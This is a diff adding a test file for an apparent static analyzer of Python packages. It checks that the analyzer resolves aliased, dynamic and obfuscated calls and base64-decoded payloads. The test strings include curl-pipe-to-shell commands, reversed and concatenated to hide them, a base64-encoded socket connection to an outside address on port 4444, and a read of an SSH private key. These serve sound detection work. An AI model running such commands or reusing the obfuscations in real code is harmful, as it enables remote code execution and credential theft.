@@ -1,0 +1,165 @@
+"""The Python front end: name resolution, fallbacks, scopes and decoding, on small sources."""
+
+from __future__ import annotations
+
+from capwatch.config import Limits
+from capwatch.lang.base import EdgeKind, FileAnalysis, ProblemKind, ScopeKind
+from capwatch.lang.python.analyzer import PythonAnalyzer, module_name_for
+from capwatch.model import FactKind
+
+
+def analyze(src: str, module: str = "pkg.mod", *, is_package: bool = False) -> FileAnalysis:
+    return PythonAnalyzer(Limits()).analyze(src.encode(), "pkg/mod.py", module, is_package=is_package)
+
+
+def calls(result: FileAnalysis) -> list[str]:
+    return [f.name for f in result.facts if f.kind is FactKind.CALL]
+
+
+def test_aliases_and_from_imports_resolve() -> None:
+    result = analyze(
+        "import subprocess as sp\nfrom os import system as run\nimport os.path\n"
+        "sp.Popen(['x'])\nrun('y')\nos.path.join('a', 'b')\n"
+    )
+    assert {"subprocess.Popen", "os.system", "os.path.join"} <= set(calls(result))
+
+
+def test_dynamic_imports_and_getattr_resolve() -> None:
+    result = analyze(
+        "__import__('os').system('a')\n"
+        "import importlib\nimportlib.import_module('subprocess').call(['b'])\n"
+        "import os\ngetattr(os, 'sys' + 'tem')('c')\n"
+        "getattr(__builtins__, 'ex' + 'ec')('print(1)')\n"
+        "import builtins\nbuiltins.eval('1')\n"
+    )
+    names = calls(result)
+    assert names.count("os.system") == 2
+    assert "subprocess.call" in names
+    assert "exec" in names and "eval" in names
+
+
+def test_alias_assignment_resolves() -> None:
+    result = analyze("import os\nrunner = os.system\nrunner('x')\n")
+    assert "os.system" in calls(result)
+
+
+def test_relative_imports() -> None:
+    result = analyze("from . import helpers\nfrom .util import fetch\nfetch()\n", "pkg.mod")
+    assert "pkg.util.fetch" in calls(result)
+    imports = {f.name for f in result.facts if f.kind is FactKind.IMPORT}
+    assert {"pkg", "pkg.helpers", "pkg.util", "pkg.util.fetch"} <= imports
+
+
+def test_constant_folding_of_arguments() -> None:
+    result = analyze(
+        "import os\nhost = 'exam' + 'ple.invalid'\n"
+        "os.system('curl https://{}/x | sh'.format(host))\n"
+        "os.system(''.join(chr(c) for c in [105, 100]))\n"
+        "os.system('hs | x/dilavni.elpmaxe//:sptth lruc'[::-1])\n"
+    )
+    args = [a for f in result.facts if f.name == "os.system" for a in f.args]
+    assert "curl https://example.invalid/x | sh" in args
+    assert "id" in args
+    assert args[-1] == "curl https://example.invalid/x | sh"
+
+
+def test_scopes_main_guard_and_methods() -> None:
+    result = analyze(
+        "import os\nclass Cmd:\n    def run(self):\n        self.go()\n    def go(self):\n"
+        "        os.system('x')\n\ndef helper():\n    pass\n\n"
+        "if __name__ == '__main__':\n    helper()\n"
+    )
+    kinds = {s.qualname: s.kind for s in result.scopes.values()}
+    assert kinds["<module>"] is ScopeKind.MODULE
+    assert kinds["<main>"] is ScopeKind.MAIN
+    assert kinds["Cmd.run"] is ScopeKind.FUNCTION
+    edges = {(e.source, e.target, e.kind) for e in result.edges}
+    assert ("pkg.mod:Cmd.run", "pkg.mod:Cmd.go", EdgeKind.CALL) in edges
+    assert ("pkg.mod:<main>", "pkg.mod.helper", EdgeKind.CALL) in edges
+    system = next(f for f in result.facts if f.name == "os.system")
+    assert system.scope == "pkg.mod:Cmd.go"
+
+
+def test_functions_passed_as_values_are_run_edges() -> None:
+    result = analyze(
+        "import threading, atexit\nfrom setuptools import setup\n"
+        "def job():\n    pass\nclass Install:\n    pass\n"
+        "threading.Thread(target=job).start()\natexit.register(job)\n"
+        "setup(cmdclass={'install': Install})\n"
+    )
+    runs = {(e.target, e.kind) for e in result.edges if e.kind is EdgeKind.RUNS}
+    assert ("pkg.mod.job", EdgeKind.RUNS) in runs
+    assert ("pkg.mod.Install", EdgeKind.RUNS) in runs
+
+
+def test_module_constants_get_their_own_scope() -> None:
+    result = analyze(
+        "import os\nKEY = os.path.expanduser('~/.ssh/id_rsa')\n"
+        "def use():\n    return open(KEY).read()\n"
+    )
+    literal = next(f for f in result.facts if f.kind is FactKind.LITERAL and "ssh" in (f.value or ""))
+    assert literal.binding == "pkg.mod:=KEY"
+    assert any(e.source == "pkg.mod:use" and e.target == "pkg.mod:=KEY" for e in result.edges)
+
+
+def test_decoded_payload_is_analysed_with_its_chain() -> None:
+    import base64
+
+    inner = base64.b64encode(b"import socket\nsocket.socket().connect(('203.0.113.9', 4444))").decode()
+    result = analyze(f"import base64\nexec(base64.b64decode('{inner}'))\n")
+    decoded = [f for f in result.facts if f.kind is FactKind.DECODED]
+    assert decoded and decoded[0].name == "exec"
+    assert decoded[0].decode_chain == ("base64.b64decode",)
+    sock = [f for f in result.facts if f.name == "socket.socket"]
+    assert sock and sock[0].decode_chain == ("base64.b64decode",)
+    assert sock[0].location.line == 2  # reported at the line that decodes it
+
+
+def test_string_passed_to_exec_is_analysed() -> None:
+    result = analyze("code = 'import os; os.system(\"id\")'\nexec(code)\n")
+    assert any(f.name == "os.system" and f.decode_chain == ("exec",) for f in result.facts)
+
+
+def test_python2_file_falls_back_and_keeps_payload() -> None:
+    src = (
+        "import os\nprint 'installing'\ntry:\n    os.system('curl http://x.invalid/a | sh')\n"
+        "except Exception, e:\n    print e\nexec 'import os'\n"
+    )
+    result = analyze(src)
+    assert any(p.kind is ProblemKind.FALLBACK_PARSE for p in result.problems)
+    assert "os.system" in calls(result)
+
+
+def test_broken_lines_are_blanked_and_rest_analysed() -> None:
+    result = analyze("import os\nthis is not python at all\nos.system('id')\n")
+    assert "os.system" in calls(result)
+
+
+def test_deep_nesting_does_not_crash() -> None:
+    for src in ["x = " + "(" * 10_000 + "1" + ")" * 10_000, "x = " + "1+" * 10_000 + "1",
+                "x = " + "-" * 100_000 + "1", "import os\n" + "x = [" * 90 + "]" * 90 + "\nos.system('id')\n"]:
+        result = analyze(src)
+        assert result.module == "pkg.mod"
+
+
+def test_recursion_limit_is_reported() -> None:
+    src = "import os\nx = " + "[" * 95 + "os.system('id')" + "]" * 95 + "\n"
+    result = PythonAnalyzer(Limits(recursion=50)).analyze(src.encode(), "m.py", "m", is_package=False)
+    assert any(p.kind is ProblemKind.TOO_DEEP for p in result.problems)
+
+
+def test_oversized_file_is_not_parsed() -> None:
+    result = PythonAnalyzer(Limits(source_bytes=100)).analyze(b"x = 1\n" * 100, "m.py", "m", is_package=False)
+    assert [p.kind for p in result.problems] == [ProblemKind.TOO_LARGE]
+
+
+def test_invalid_utf8_is_replaced() -> None:
+    result = PythonAnalyzer(Limits()).analyze(b"import os\nx = '\xff\xfe'\nos.system('id')\n", "m.py", "m", is_package=False)
+    assert any(p.kind is ProblemKind.BAD_ENCODING for p in result.problems)
+    assert "os.system" in calls(result)
+
+
+def test_module_names() -> None:
+    assert module_name_for("pkg/sub/__init__.py") == ("pkg.sub", True)
+    assert module_name_for("pkg/mod.py") == ("pkg.mod", False)
+    assert module_name_for("setup.py") == ("setup", False)
